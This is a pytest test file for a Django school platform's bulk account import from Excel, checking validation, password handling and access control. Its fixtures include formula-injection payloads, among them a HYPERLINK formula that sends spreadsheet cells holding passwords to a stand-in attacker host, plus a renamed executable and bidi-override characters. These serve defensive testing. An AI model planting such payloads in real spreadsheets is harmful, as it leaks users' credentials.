"""School leaders create teachers and students from an XLSX file, through the page."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from lms.accounts.models import Role, RoleAssignment, User

HEADERS = ["Họ và tên", "Tên đăng nhập", "Vai trò", "Lớp", "Tổ chuyên môn", "Email"]


def xlsx(rows, headers=HEADERS) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload(client, school, data: bytes, name="danh-sach.xlsx"):
    """Post the file as the import page does; a success is redirected to its result page."""
    return client.post(
        f"/accounts/people/school/{school.pk}/import/",
        {"file": SimpleUploadedFile(name, data)}, follow=True,
    )


@pytest.fixture
def leader_client(demo, login):
    return login(demo.user("hieutruong.nt"))


@pytest.fixture
def school(demo):
    return demo.school("THCS-NT")


def test_template_download_has_vietnamese_headers(leader_client, school):
    response = leader_client.get(f"/accounts/people/school/{school.pk}/template.xlsx")
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    ws = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in ws[1]] == HEADERS
    notes = load_workbook(io.BytesIO(response.content))["Hướng dẫn"]
    text = " ".join(str(c.value) for row in notes.iter_rows() for c in row if c.value)
    assert "6A" in text and "Tổ Toán – Tin" in text  # the school's own classes and groups


def test_import_creates_everyone_and_shows_passwords_once(leader_client, school):
    data = xlsx([
        ["Nguyễn Thị Mai Anh", "", "Giáo viên", "", "Tổ Toán – Tin", "maianh@example.edu.vn"],
        ["Trần Đức Bình", "binh.td", "Học sinh", "6A", "", ""],
        ["Lê Thu Đào", "", "học sinh", "6b", "", ""],  # case and spacing tolerated
    ])
    response = upload(leader_client, school, data)
    assert response.status_code == 200
    text = response.content.decode()
    assert "Nguyễn Thị Mai Anh" in text and "binh.td" in text

    teacher = User.objects.get(full_name="Nguyễn Thị Mai Anh")
    assert teacher.username == "anhntm.thcsnt"
    assert teacher.must_change_password
    assert RoleAssignment.objects.filter(
        user=teacher, role=Role.TEACHER, subject_group__name="Tổ Toán – Tin", school=school
    ).exists()
    student = User.objects.get(username="binh.td")
    assert student.school_class.name == "6A"
    assert RoleAssignment.objects.filter(user=student, role=Role.STUDENT, school=school).exists()
    assert User.objects.get(full_name="Lê Thu Đào").school_class.name == "6B"

    # the password on the page logs the student in
    password = response.context["people"][1]["password"]
    assert response.context["people"][1]["username"] == "binh.td"
    assert student.check_password(password)

    # the passwords download, again if needed, for a short while
    token = response.context["token"]
    for _attempt in range(2):
        download = leader_client.post(f"/accounts/people/credentials/{token}/")
        assert download.status_code == 200
        ws = load_workbook(io.BytesIO(download.content)).active
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
        assert ["Trần Đức Bình", "binh.td", password] == rows[1][:3]


def test_imported_user_must_change_password_at_first_login(leader_client, school):
    response = upload(leader_client, school, xlsx([["Phạm Văn Cường", "cuong.pv", "Học sinh", "6A", "", ""]]))
    password = response.context["people"][0]["password"]
    client = Client()  # the student's own browser
    login = client.post("/accounts/login/", {"username": "cuong.pv", "password": password})
    assert login.status_code == 302
    assert client.get("/me/")["Location"] == "/accounts/password/"
    change = client.post("/accounts/password/", {
        "old_password": password, "new_password1": "Hoa-sen-2026!", "new_password2": "Hoa-sen-2026!",
    })
    assert change.status_code == 302
    user = User.objects.get(username="cuong.pv")
    assert not user.must_change_password
    assert user.password.startswith("pbkdf2_sha256$")  # full-strength hash now
    assert client.get("/me/").status_code == 200


@pytest.mark.parametrize(
    "rows, row_number, message",
    [
        ([["", "", "Giáo viên", "", "", ""]], 2, "Thiếu họ và tên"),
        ([["Ngô An", "", "Học sinh", "6Z", "", ""]], 2, "6Z"),
        ([["Ngô An", "", "Học sinh", "", "", ""]], 2, "lớp"),
        ([["Ngô An", "", "Hiệu phó", "", "", ""]], 2, "Hiệu phó"),
        ([["Ngô An", "", "Giáo viên", "", "Tổ Âm nhạc", ""]], 2, "Tổ Âm nhạc"),
        ([["Ngô An", "", "Giáo viên", "", "", "khong-phai-email"]], 2, "khong-phai-email"),
        ([["Ngô An", "giaovien.toan", "Giáo viên", "", "", ""]], 2, "giaovien.toan"),
        ([["Ngô An", "an.n", "Học sinh", "6A", "", ""], ["Ngô Bình", "an.n", "Học sinh", "6A", "", ""]], 3, "an.n"),
        ([["Ngô An", "ten co dau cach", "Học sinh", "6A", "", ""]], 2, "ten co dau cach"),
    ],
    ids=["missing-name", "unknown-class", "student-without-class", "unknown-role", "unknown-group",
         "bad-email", "username-taken", "username-twice-in-file", "bad-username"],
)
def test_bad_rows_are_reported_with_row_number_and_nothing_is_saved(leader_client, school, rows, row_number, message):
    good = ["Đinh Văn Hải", "hai.dv", "Học sinh", "6A", "", ""]
    before = User.objects.count()
    response = upload(leader_client, school, xlsx([good, *rows]))
    assert response.status_code == 400
    text = response.content.decode()
    assert f"Dòng {row_number + 1}" in text
    assert message in text
    assert "Không có gì được lưu" in text
    assert User.objects.count() == before
    assert not User.objects.filter(username="hai.dv").exists()


@pytest.mark.parametrize(
    "data, name, message",
    [
        (b"", "rong.xlsx", "trống"),
        (b"MZ\x90\x00" + b"\x00" * 2000, "virus.xlsx", "không phải tệp Excel"),
        (b"Ho va ten,Vai tro\nAn,Giao vien\n", "danh-sach.xlsx", "không phải tệp Excel"),
        (b"PK\x03\x04" + b"rac" * 300, "hong.xlsx", "không đọc được"),
    ],
    ids=["empty", "exe-renamed", "csv-renamed", "corrupt-zip"],
)
def test_bad_files_get_a_clear_message_and_nothing_is_saved(leader_client, school, data, name, message):
    before = User.objects.count()
    response = upload(leader_client, school, data, name)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert User.objects.count() == before


def test_a_zip_that_is_not_a_spreadsheet_is_refused(leader_client, school):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "xin chào")
    response = upload(leader_client, school, buf.getvalue())
    assert response.status_code == 400
    assert "không đọc được" in response.content.decode()


def test_missing_header_is_reported(leader_client, school):
    response = upload(leader_client, school, xlsx([["An", "Giáo viên"]], headers=["Tên", "Chức vụ"]))
    assert response.status_code == 400
    assert "Họ và tên" in response.content.decode()


def test_header_only_file_is_reported(leader_client, school):
    response = upload(leader_client, school, xlsx([]))
    assert response.status_code == 400
    assert "không có dòng" in response.content.decode()


def test_oversized_file_is_refused(leader_client, school, settings):
    settings.PEOPLE_IMPORT_MAX_BYTES = 1024
    response = upload(leader_client, school, xlsx([["An " * 400, "", "Giáo viên", "", "", ""]]))
    assert response.status_code == 400
    assert "lớn hơn" in response.content.decode()


def test_generated_usernames_do_not_collide(leader_client, school):
    rows = [["Nguyễn Văn An", "", "Học sinh", "6A", "", ""], ["Nông Văn An", "", "Học sinh", "6B", "", ""],
            ["Nguyễn Văn An", "", "Học sinh", "6B", "", ""]]  # a namesake in another class
    assert upload(leader_client, school, xlsx(rows)).status_code == 200
    names = sorted(User.objects.filter(full_name__in=["Nguyễn Văn An", "Nông Văn An"]).values_list("username", flat=True))
    assert names == ["annv.thcsnt", "annv.thcsnt2", "annv.thcsnt3"]


def test_another_schools_leader_cannot_import_here(demo, login, school):
    client = login(demo.user("hieutruong.kd"))
    before = User.objects.count()
    response = upload(client, school, xlsx([["Ngô An", "", "Giáo viên", "", "", ""]]))
    assert response.status_code == 403
    assert User.objects.count() == before


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?p="&C3&C4,"Bấm vào đây")',
    "+84 Nguyễn Văn Cộng",
    "-Trần Trừ",
    "@Lê Gắn",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def text_xlsx(rows) -> bytes:
    """As a spreadsheet program saves what someone typed as text ('=… or a text column)."""
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_like_names_come_back_as_exact_text_in_the_passwords_workbook(leader_client, school):
    rows = [[name, f"congthuc{i}", "Học sinh", "6A", "", ""] for i, name in enumerate(FORMULA_NAMES)]
    response = upload(leader_client, school, text_xlsx(rows))
    assert response.status_code == 200, response.content.decode()[-3000:]
    # the name is kept exactly as typed: nothing prefixed, nothing dropped
    assert User.objects.get(username="congthuc0").full_name == FORMULA_NAMES[0]

    download = leader_client.post(f"/accounts/people/credentials/{response.context['token']}/")
    assert download.status_code == 200
    xml = _sheet_xml(download.content)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(download.content)).active
    cells = {c.value: c for row in ws.iter_rows(min_row=3) for c in row if c.column == 1}
    for name in FORMULA_NAMES:
        cell = cells[name]  # the exact text
        assert cell.data_type == "s"
        assert cell.quotePrefix  # stays text even when edited in Excel / LibreOffice
    # the passwords are text too
    for row in ws.iter_rows(min_row=3):
        assert row[2].data_type == "s"


def test_template_workbook_holds_no_formula(leader_client, school):
    response = leader_client.get(f"/accounts/people/school/{school.pk}/template.xlsx")
    assert "<f>" not in _sheet_xml(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if c.value is not None)


@pytest.mark.parametrize(
    "cell_index, value",
    [
        (0, "Kiều\tNhật Vy"),
        (0, "Kiều Nhật Vy\n=1+1"),
        (0, "Kiều\rNhật Vy"),
        (0, "Kiều\u200bNhật Vy"),  # zero-width space (Cf)
        (0, "\u202eKiều Nhật Vy"),  # right-to-left override (Cf)
        (1, "an\u200b.ngo"),  # other text cells too: the username
        (5, "an@example.edu.vn\u00ad"),  # soft hyphen in the email
    ],
    ids=["tab", "line-feed", "carriage-return", "zero-width-space", "bidi-override",
         "username", "email"],
)
def test_control_characters_in_a_row_are_an_error_and_nothing_is_saved(leader_client, school, cell_index, value):
    good = ["Đinh Văn Hải", "hai.dv", "Học sinh", "6A", "", ""]
    bad = ["Kiều Nhật Vy", "", "Học sinh", "6A", "", ""]
    bad[cell_index] = value
    before = User.objects.count()
    response = upload(leader_client, school, xlsx([good, bad]))
    assert response.status_code == 400
    text = response.content.decode()
    assert "Dòng 3" in text
    assert "ký tự điều khiển" in text
    assert "Không có gì được lưu" in text
    assert User.objects.count() == before
    assert not User.objects.filter(username="hai.dv").exists()
    assert not User.objects.filter(full_name__contains="Nhật Vy").exists()


def test_ordinary_spaces_in_a_name_are_fine():
    from lms.accounts.validators import has_control_characters, validate_no_control_characters

    assert not has_control_characters("Nguyễn  Thị Mai Anh ")
    validate_no_control_characters("Nguyễn Thị Mai Anh")
    with pytest.raises(Exception):
        validate_no_control_characters("Nguyễn\u2028Anh")  # line separator


# --- reloading, importing again, the template's examples, the passwords' window ----------


def test_reloading_the_result_page_imports_nothing_again(leader_client, school):
    data = xlsx([["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""]])
    response = leader_client.post(f"/accounts/people/school/{school.pk}/import/",
                                  {"file": SimpleUploadedFile("danh-sach.xlsx", data)})
    assert response.status_code == 302  # the result page is reached by redirect
    result_url = response["Location"]
    assert result_url.startswith(f"/accounts/people/school/{school.pk}/import/")
    for _reload in range(3):
        page = leader_client.get(result_url)
        assert page.status_code == 200 and "Phạm Minh Khoa" in page.content.decode()
    assert User.objects.filter(full_name="Phạm Minh Khoa").count() == 1


def test_importing_the_same_file_twice_creates_no_one_twice_and_says_who_exists(leader_client, school):
    data = xlsx([
        ["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""],
        ["Đỗ Thu Hà", "ha.dt", "Học sinh", "6B", "", ""],
        ["Vương Quốc Anh", "", "Giáo viên", "", "Tổ Toán – Tin", ""],
    ])
    assert upload(leader_client, school, data).status_code == 200
    before = User.objects.count()
    again = upload(leader_client, school, data)
    assert again.status_code == 200
    assert User.objects.count() == before
    html = again.content.decode()
    assert '<h1 id="done-h">Không có tài khoản mới</h1>' in html and "3 người đã có tài khoản" in html
    existing = {(p["row"], p["full_name"], p["username"]) for p in again.context["existing"]}
    khoa = User.objects.get(full_name="Phạm Minh Khoa").username
    anh = User.objects.get(full_name="Vương Quốc Anh").username
    assert existing == {(2, "Phạm Minh Khoa", khoa), (3, "Đỗ Thu Hà", "ha.dt"), (4, "Vương Quốc Anh", anh)}

    # one new row among known ones: only it is created
    more = xlsx([["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""], ["Lò Văn Sáng", "", "Học sinh", "6A", "", ""]])
    response = upload(leader_client, school, more)
    assert [p["full_name"] for p in response.context["people"]] == ["Lò Văn Sáng"]
    assert User.objects.count() == before + 1


def test_the_templates_examples_are_not_on_the_list_and_are_refused_if_left_in(leader_client, school):
    template = leader_client.get(f"/accounts/people/school/{school.pk}/template.xlsx").content
    sheet = load_workbook(io.BytesIO(template)).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == []  # headers only
    # a file made from an older template, its two examples still there
    old = xlsx([["Nguyễn Văn An", "", "Giáo viên", "", "Tổ Toán – Tin", "an.nguyen@example.edu.vn"],
                ["Trần Thị Bình", "", "Học sinh", "6A", "", ""],
                ["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""]])
    response = upload(leader_client, school, old)
    assert response.status_code == 400
    html = response.content.decode()
    assert html.count("Dòng này là dòng ví dụ của mẫu: hãy xoá nó.") == 2
    assert not User.objects.filter(full_name__in=["Nguyễn Văn An", "Trần Thị Bình", "Phạm Minh Khoa"]).exists()


def test_the_passwords_expire_with_a_clear_page_and_stay_with_the_leader(leader_client, school, demo, monkeypatch):
    from lms.accounts import views

    response = upload(leader_client, school, xlsx([["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""]]))
    token = response.context["token"]
    result_url = response.redirect_chain[-1][0]

    # the same leader in another browser (another session) gets nothing
    other = Client()
    other.force_login(demo.user("hieutruong.nt"))
    gone = other.post(f"/accounts/people/credentials/{token}/")
    assert gone.status_code == 410
    assert "Mật khẩu ban đầu không còn xem được nữa" in gone.content.decode()

    # past the window: a page that says so, for the result page and the download alike
    now = views.time.time()
    monkeypatch.setattr(views.time, "time", lambda: now + views.CREDENTIALS_SECONDS + 1)
    for expired in (leader_client.post(f"/accounts/people/credentials/{token}/"), leader_client.get(result_url)):
        assert expired.status_code == 410
        text = expired.content.decode()
        assert "Mật khẩu ban đầu không còn xem được nữa" in text and "30 phút" in text
        assert 'class="password"' not in text
    assert User.objects.filter(full_name="Phạm Minh Khoa").count() == 1  # the account stays


def test_the_result_page_is_refused_to_other_schools_leaders_and_visitors(leader_client, school, demo):
    response = upload(leader_client, school, xlsx([["Phạm Minh Khoa", "", "Học sinh", "6A", "", ""]]))
    result_url = response.redirect_chain[-1][0]
    other = Client()
    other.force_login(demo.user("hieutruong.kd"))  # leader of another school
    assert other.get(result_url).status_code == 403
    visitor = Client().get(result_url)
    assert visitor.status_code == 302 and visitor["Location"].startswith("/accounts/login/")
    assert User.objects.filter(full_name="Phạm Minh Khoa").count() == 1
